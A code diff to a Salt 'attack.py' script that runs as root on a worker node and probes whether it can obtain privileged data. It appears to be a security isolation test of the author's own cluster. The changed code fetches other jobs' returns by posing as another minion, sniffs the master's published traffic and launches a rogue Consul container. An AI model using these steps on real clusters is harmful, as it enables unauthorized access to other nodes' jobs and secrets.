@@ -1,9 +1,10 @@
 """Runs on a worker as root, with Salt's Python: try to get what only managers or the master may have.
 
-    attack.py OTHER_NODE MASTER_ADDRESS OUTPUT
+    attack.py OTHER_NODE MASTER_ADDRESS OUTPUT JOB_ID...
 
-Every attempt writes one JSON line to OUTPUT: {"attempt": name, "gave": everything that came back}. What was obtained is
-judged elsewhere, by value; this program knows no secret. Nothing is destroyed that an apply does not mend.
+Every attempt writes one JSON line to OUTPUT: {"attempt": name, "gave": everything that came back,
+"broken": why the attempt did not work at all}. What was obtained is judged elsewhere, by value; this program knows no
+secret. The job IDs are those of others' applies. Nothing is destroyed that an apply does not mend.
 """
 
 import asyncio
@@ -23,7 +24,7 @@ import probe
 import salt.channel.client
 import salt.config
 
-OTHER, MASTER, OUTPUT = sys.argv[1:4]
+OTHER, MASTER, OUTPUT, *JIDS = sys.argv[1:]
 LIMIT = 4 << 20
 ATTEMPTS = []
 
@@ -172,13 +173,9 @@ def consul_snapshot():
 @attempt
 def jobs():
     """jobs of others: listen to all that the master publishes, ask for their returns"""
-    found = [call("saltutil.find_cached_job", jid) for jid in _jids()]
-    found += [asked({"cmd": "pub_ret", "id": "rpiomega-4", "jid": jid}) for jid in _jids()]
+    found = [call("saltutil.find_cached_job", jid) for jid in JIDS]
+    found += [asked({"cmd": "pub_ret", "id": "rpiomega-4", "jid": jid}) for jid in JIDS]
     return [*found, call("saltutil.running"), sniff(20)]
-
-
-def _jids():
-    return sorted(glob.glob("/var/cache/salt/minion/minion_jobs/*") or ["20260101000000000000"])[:5]
 
 
 def sniff(seconds):
@@ -198,10 +195,7 @@ def sniff(seconds):
         await asyncio.sleep(seconds)
         return seen
 
-    try:
-        return repr(asyncio.run(asyncio.wait_for(listen(), seconds + 20)))
-    except Exception as error:  # noqa: BLE001
-        return f"{type(error).__name__}: {error}"
+    return repr(asyncio.run(asyncio.wait_for(listen(), seconds + 20)))
 
 
 @attempt
@@ -357,7 +351,7 @@ docker run -d --name rogue --network host --user 0 -v {top}/etc:/etc/consul:ro -
     subprocess.run(
         ["bash", "-c", f"docker stop rogue; docker rm rogue; rm -rf {top}"], capture_output=True, check=False
     )
-    return [*found, done.stdout[-20000:]]
+    return [*found, (done.stdout + done.stderr)[-20000:]]
 
 
 @attempt
@@ -384,12 +378,13 @@ def main():
     """Run all attempts."""
     with open(OUTPUT, "w", encoding="utf-8") as output:
         for function in ATTEMPTS:
+            gave, broken = "", ""
             try:
                 gave = json.dumps(function(), default=repr)
-            except Exception as error:  # noqa: BLE001 - a failed attempt gave nothing, and says why
-                gave = f"{type(error).__name__}: {error}"
+            except Exception as error:  # noqa: BLE001 - it gave nothing, and proves nothing
+                broken = f"{type(error).__name__}: {error}"
             name = f"{function.__name__}: {function.__doc__.splitlines()[0]}"
-            output.write(json.dumps({"attempt": name, "gave": gave[:LIMIT]}) + "\n")
+            output.write(json.dumps({"attempt": name, "gave": gave[:LIMIT], "broken": broken}) + "\n")
             output.flush()
 
 
